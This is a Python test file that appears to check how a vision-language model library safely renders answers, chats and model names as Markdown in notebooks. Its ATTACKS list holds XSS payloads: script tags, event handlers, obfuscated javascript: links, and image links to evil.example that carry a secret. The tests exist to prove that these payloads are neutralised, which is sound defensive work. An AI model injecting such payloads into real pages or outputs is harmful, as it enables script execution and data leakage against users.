"""What a notebook shows of answers, conversations and models, and what it must not run."""

from __future__ import annotations

import base64
import io
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from PIL import Image

from mlx_qwenvl import QwenVL, Reply, load
from mlx_qwenvl.engine.shown import BREAK, picture_markdown, safe_markdown
from mlx_qwenvl.facts import find_facts
from tests.command_lines import SHAPES

RENDERERS = {
    "CommonMark": MarkdownIt("commonmark", {"html": True}),
    "GitHub": MarkdownIt("gfm-like", {"html": True, "linkify": False}),
}
for renderer in RENDERERS.values():
    renderer.validateLink = lambda url: True  # type: ignore[method-assign]  # as marked, which checks none

PLAIN_TAGS = {
    *("p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "a"),
}
ATTACKS = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<!-- --><iframe src='javascript:alert(1)'></iframe>",
    "<?php ?><b onmouseover=alert(1)>b</b>",
    "<![CDATA[<b>]]>",
    "</sub><style>*{display:none}</style>",
    "[x](javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\njavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]:\njavascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?secret)",
    "![x][y]\n\n[y]: https://evil.example/",
    "[![x](https://evil.example/)](https://evil.example)",
    "- a\n\n  ```\n<script>alert(1)</script>\n  ```",
    "> ```\n<script>alert(1)</script>",
    "```\n```~\n<script>alert(1)</script>\n```",
    "~~~ a`b\n<script>alert(1)</script>",
    "````\n```\n<script>\n````\n<script>alert(1)</script>",
    "`a\n\n<script>alert(1)</script>`",
    "``` `\n<script>alert(1)</script>\n```",
    "$$\n```\n<script>alert(1)</script>\n```\n$$",
    "a\r<script>alert(1)</script>",
    "a\u2028<script>alert(1)</script>",
    "\\<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
]
PIECES = [
    *("<", ">", "script", "img src=x", "/", "!", "[", "]", "(", ")", ":", " ", "\n", "\n\n", "a"),
    *(
        "`",
        "``",
        "```",
        "````",
        "~~~",
        "~",
        "    ",
        "  ",
        "> ",
        "- ",
        "1. ",
        "|",
        "\\",
        "&lt;",
        "#",
    ),
    *("javascript:", "data:", "https://a.b", "<!--", "<![CDATA[", "<?", "\t", '"', "'", "*", "$$"),
]


class Found(HTMLParser):
    """What is dangerous in HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        link = given.pop("href", None)
        if tag == "code":  # the language of a fence
            given.pop("class", None)
        for harmless in ("title", "start", "style" if tag in ("td", "th") else ""):
            given.pop(harmless, None)
        is_far = link is not None and not re.match("https?://|mailto:", link, re.IGNORECASE)
        if tag not in PLAIN_TAGS or given or is_far:
            self.bad.append(self.get_starttag_text() or tag)

    def handle_comment(self, data: str) -> None:
        self.bad.append(data)

    def handle_decl(self, decl: str) -> None:
        self.bad.append(decl)

    def handle_pi(self, data: str) -> None:
        self.bad.append(data)

    def unknown_decl(self, data: str) -> None:
        self.bad.append(data)


def dangers(text: str) -> list[str]:
    """What renderers make of a text that is no plain text."""
    bad: list[str] = []
    for renderer in RENDERERS.values():
        found = Found()
        found.feed(renderer.render(text))
        found.close()
        bad += found.bad
    return bad


def shown(text: str) -> str:
    """What people read of Markdown, as HTML."""
    return str(RENDERERS["GitHub"].render(safe_markdown(text))).replace(BREAK, "")


def data_pictures(markdown: str) -> list[Image.Image]:
    found = re.findall(r"!\[picture\]\(data:image/(?:png|jpeg);base64,([^)]*)\)", markdown)
    return [Image.open(io.BytesIO(base64.b64decode(data))) for data in found]


@pytest.fixture(scope="module")
def reply(demo: QwenVL) -> Reply:
    return demo.generate("Describe it.", images=[SHAPES], temperature=0)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_html_no_picture_and_no_script_comes_through(attack: str) -> None:
    assert dangers(safe_markdown(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS[:16])
def test_the_attacks_are_some(attack: str) -> None:
    assert dangers(attack)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_nothing_made_of_marks_comes_through(text: str) -> None:
    assert dangers(safe_markdown(text)) == []


def test_tex_makes_no_links() -> None:
    text = safe_markdown(r"$\href{javascript:alert(1)}{x}$ $\frac{1}{2}$ \\alpha \hrefs")
    assert r"\href{" not in text
    assert r"\frac{1}{2}" in text
    assert r"\hrefs" in text


def test_markdown_stays_markdown() -> None:
    html = shown(
        "# Title\n\n- *one*\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[x](https://a.b/c)"
    )
    for piece in ("<h1>Title", "<em>one", "<strong>two", "<td>1", '<a href="https://a.b/c">x</a>'):
        assert piece in html


def test_tags_are_read_as_they_were_written() -> None:
    assert "a &lt;b&gt; c &lt; d, <code>&lt;p&gt;</code>" in shown("a <b> c < d, `<p>`")


def test_fenced_code_is_kept_to_the_letter() -> None:
    code = "<p>[a](b)</p>\n\n````\n![x](y)\n    z"
    for fence in ("`````", "~~~"):
        text = safe_markdown(f"Look:\n{fence}html\n{code}\n{fence}\nDone")
        assert code in text
        html = RENDERERS["CommonMark"].render(text)
        assert 'class="language-html">&lt;p&gt;[a](b)' in html
        assert "<p>Done</p>" in html


def test_a_fence_that_was_cut_off_ends_with_the_text() -> None:
    assert "<p>after</p>" in RENDERERS["CommonMark"].render(safe_markdown("```\na") + "\n\nafter")


def test_lines_stay_lines() -> None:
    assert shown("Milk 1.20\nBread 2.40\n\nSum 3.60").count("<br") == 1


def test_an_answer_shows_its_picture_its_text_and_a_small_line(reply: Reply) -> None:
    markdown = reply._repr_markdown_()
    (picture,) = data_pictures(markdown)
    expected = Image.open(SHAPES).convert("RGB").resize((168, 168))
    difference = np.asarray(picture, int) - np.asarray(expected, int)
    assert np.abs(difference).mean() < 8
    blocks = markdown.split("\n\n")
    assert blocks[1] == reply.text
    assert blocks[2].startswith("<sub>demo · ")
    assert f"{reply.usage.completion_tokens} answer tokens" in blocks[2]
    assert reply._repr_png_() is None


def test_two_pictures_stand_side_by_side(demo: QwenVL) -> None:
    two = [Image.new("RGB", (900, 300), "red"), Image.new("RGB", (300, 900), "blue")]
    asked = demo.generate("Compare.", images=list(two), max_tokens=3)
    pictures = data_pictures(asked._repr_markdown_())
    assert [picture.size for picture in pictures] == [(160, 53), (53, 160)]
    assert "cut off at max_tokens" in asked._repr_markdown_()


def test_what_an_answer_says_runs_nothing(reply: Reply) -> None:
    bad = replace(reply, text="<img src=x onerror=alert(1)>", model="</sub><script>x</script>")
    bare = replace(bad, pictures=())
    text = bare._repr_markdown_().replace("<sub>", "", 1).replace("</sub>", "", 1)
    assert dangers(text) == []


BOXED = (
    "The red circle is at the top left. <|object_ref_start|>red circle<|object_ref_end|>"
    "<|box_start|>(100,100),(500,500)<|box_end|>"
)


def test_an_answer_that_points_shows_the_picture_with_its_boxes(reply: Reply) -> None:
    pointing = replace(reply, text=BOXED)
    png = pointing._repr_png_()
    assert png is not None
    drawn = Image.open(io.BytesIO(png))
    assert drawn.size == pointing.draw().size
    assert np.array_equal(np.asarray(drawn), np.asarray(pointing.draw()))
    (picture,) = data_pictures(pointing._repr_markdown_())
    assert picture.size == drawn.size
    assert "<|" not in pointing._repr_markdown_()


def test_a_drawn_picture_of_many_pixels_is_made_smaller(demo: QwenVL) -> None:
    photo = Image.new("RGB", (3000, 2000), "green")
    pointing = replace(demo.generate("What?", images=[photo], max_tokens=2, max_pixels=50_000))
    pointing = replace(pointing, text=BOXED)
    png = pointing._repr_png_()
    assert png is not None
    assert Image.open(io.BytesIO(png)).size == (640, 427)
    assert photo.size == (3000, 2000)


def test_a_picture_that_is_gone_is_shown_all_the_same(demo: QwenVL, tmp_path: Path) -> None:
    file = tmp_path / "a.png"
    Image.open(SHAPES).save(file)
    asked = demo.generate("What?", images=[file], max_tokens=2)
    file.unlink()
    assert len(data_pictures(asked._repr_markdown_())) == 1
    assert replace(asked, text=BOXED)._repr_png_() is not None


def test_drawn_shapes_are_kept_as_png_and_photos_as_jpeg() -> None:
    flat = Image.new("RGB", (200, 200), "red")
    noise = np.random.default_rng(1).integers(0, 255, (200, 200, 3), np.uint8)
    assert "data:image/png" in picture_markdown(flat)
    assert "data:image/jpeg" in picture_markdown(Image.fromarray(noise))


def test_a_conversation_shows_its_turns_and_pictures(demo: QwenVL) -> None:
    chat = demo.chat("Be brief.")
    asked = chat.ask("What is <b>this</b>?", images=[SHAPES], temperature=0)
    chat.ask("How many?", temperature=0)
    markdown = chat._repr_markdown_()
    assert len(data_pictures(markdown)) == 1
    bare = re.sub(r"!\[picture\]\(data:[^)]*\)", "", markdown)
    assert dangers(bare) == []
    assert bare.index("Be brief.") < bare.index("this") < bare.index(asked.text)
    assert repr(chat) == "Chat('demo', 2 questions)"


@pytest.mark.parametrize(
    ("quantize", "formats"),
    [(None, "float32"), ("4bit", "4bit"), ("mixed_4_6", "4bit + 6bit"), ("mxfp4", "mxfp4")],
)
def test_a_model_tells_what_it_is_and_what_it_takes(quantize: str | None, formats: str) -> None:
    vlm = load("demo", quantize=quantize)
    loaded = vlm.loaded
    assert loaded.parameters == find_facts("demo").description.parameters
    assert " + ".join(loaded.decoder) == formats
    assert repr(vlm) == (
        f"QwenVL('demo', 3.41 M parameters in {loaded.formats}, "
        f"{loaded.nbytes / 1e6:.2f} MB on the CPU, context of 2048 tokens)"
    )
    html = RENDERERS["GitHub"].render(vlm._repr_markdown_())
    for cell in ("3.41 M", formats, "the CPU", "2048 tokens"):
        assert cell in html


def test_weights_are_counted_as_they_lie_in_memory(demo: QwenVL) -> None:
    described = find_facts("demo").description
    assert demo.loaded.nbytes == described.loaded_bytes(4)


def test_a_name_with_marks_runs_nothing(demo: QwenVL) -> None:
    vlm = QwenVL(
        "<script>|</script>",
        *(demo.model, demo.tokenizer, demo.template, demo.processor, {}, 0.0),
    )
    assert dangers(vlm._repr_markdown_()) == []
